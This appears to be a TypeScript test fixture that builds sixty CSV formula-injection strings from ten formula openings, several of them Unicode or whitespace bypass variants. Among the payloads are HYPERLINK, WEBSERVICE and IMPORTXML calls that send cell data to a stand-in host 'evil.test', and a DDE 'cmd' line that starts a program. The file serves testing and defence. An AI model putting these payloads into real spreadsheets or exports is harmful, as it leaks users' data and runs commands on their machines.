/** Texts that a spreadsheet would calculate with, or that call a program (OWASP, CSV injection, with its known ways round). */
const calls: readonly string[] = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.test/?"&A1,"Klik")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://evil.test")',
  'IMPORTXML("http://evil.test","//a")',
];
const openings: readonly string[] = ['=', '+', '-', '@', ' =', '\u00a0=', '\t=', 'teks\n=', '\ufeff=', '＝'];

/** Sixty of them. */
export const formulas: readonly string[] = openings.flatMap((opening) => calls.map((call) => `${opening}${call}`));
